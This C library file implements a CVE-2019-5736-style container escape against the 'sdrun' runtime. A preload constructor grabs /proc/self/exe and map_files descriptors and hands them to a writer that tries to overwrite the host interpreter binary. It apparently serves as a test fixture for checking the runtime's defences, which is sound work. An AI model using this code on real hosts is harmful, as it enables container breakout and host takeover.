/* exe_attack.so: the CVE-2019-5736 attack on sdrun's host interpreter, as a library an image
   makes the dynamic loader take (named in its /etc/ld.so.preload, or put where the interpreter
   looks for its libpython).

   A pod whose app (or entered command, or health check) is a script starting `#!/proc/self/exe`
   makes the kernel run, inside the pod, whatever binary the process that execs it runs: sdrun's
   Python up to the exec. The loader then runs this constructor before the interpreter's main().
   It opens /proc/self/exe, and hands the descriptor to /attack-writer, a static program of the
   image, in a child of its own: the writer no longer runs the interpreter, and keeps trying to
   open the descriptor for writing until no host process does (ETXTBSY until then). The process
   itself then becomes a shell that waits for SIGTERM (an app) or exits 0 (an entered command, a
   health check), never reaching the interpreter.

   /attack-privileged, run with CAP_SYS_ADMIN, also tries the file of its first mapping in
   /proc/self/map_files. Only processes started from a script /attack-KIND do anything: argv[1]
   names it. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define SCRIPT_PREFIX "/attack-"

/* The main() the interpreter's binary calls: defined so that the loader finds it here too when
   this library stands in for libpython, whichever way the binary binds its symbols. */
int Py_BytesMain(int argc, char **argv) {
    (void)argc;
    (void)argv;
    return 0;
}

static int script_kind(char *kind, size_t size) {
    char cmdline[4096];
    int fd = open("/proc/self/cmdline", O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    ssize_t length = read(fd, cmdline, sizeof cmdline - 1);
    close(fd);
    if (length <= 0)
        return -1;
    cmdline[length] = '\0';
    const char *script = cmdline + strlen(cmdline) + 1; /* argv[1]: the script the kernel ran us for */
    if (script >= cmdline + length || strncmp(script, SCRIPT_PREFIX, strlen(SCRIPT_PREFIX)) != 0)
        return -1;
    snprintf(kind, size, "%s", script + strlen(SCRIPT_PREFIX));
    return 0;
}

static void start_writer(int fd, const char *kind) {
    if (fork() != 0)
        return;
    setsid();
    int null = open("/dev/null", O_RDWR);
    dup2(null, 0); /* nothing of the caller's: `sdrun enter` waits for its stdout to close */
    dup2(null, 1);
    dup2(null, 2);
    char descriptor[16];
    snprintf(descriptor, sizeof descriptor, "%d", fd);
    execl("/attack-writer", "attack-writer", descriptor, kind, (char *)NULL);
    _exit(127);
}

/* The binary's first mapping in /proc/self/map_files (the lowest address: the executable's), which
   names the file the kernel maps, the one under an overlayfs too: readable with CAP_SYS_ADMIN. */
static void attack_mapping(const char *kind) {
    char marker[96], path[300];
    snprintf(marker, sizeof marker, "/markers/%s-map_files", kind);
    DIR *mappings = opendir("/proc/self/map_files");
    struct dirent *entry;
    while (mappings != NULL && (entry = readdir(mappings)) != NULL && entry->d_name[0] == '.')
        ;
    if (mappings == NULL || entry == NULL)
        return;
    snprintf(path, sizeof path, "/proc/self/map_files/%s", entry->d_name);
    int fd = open(path, O_RDONLY);
    if (fd >= 0) {
        start_writer(fd, marker + strlen("/markers/"));
    } else {
        int out = open(marker, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        dprintf(out, "%s\n", strerror(errno));
        close(out);
    }
}

__attribute__((constructor)) static void attack(void) {
    char kind[64];
    if (script_kind(kind, sizeof kind) != 0)
        return;
    int exe = open("/proc/self/exe", O_RDONLY); /* no O_CLOEXEC: the writer inherits it */
    if (exe >= 0)
        start_writer(exe, kind);
    if (strcmp(kind, "privileged") == 0)
        attack_mapping(kind);
    if (strcmp(kind, "enter") == 0 || strcmp(kind, "check") == 0)
        _exit(0);
    /* An app stays up (as PID 1, its exit would kill the writer), and stops on SIGTERM. */
    execl("/bin/sh", "sh", "-c", "trap exit TERM; sleep 1000 & wait", (char *)NULL);
    _exit(127);
}
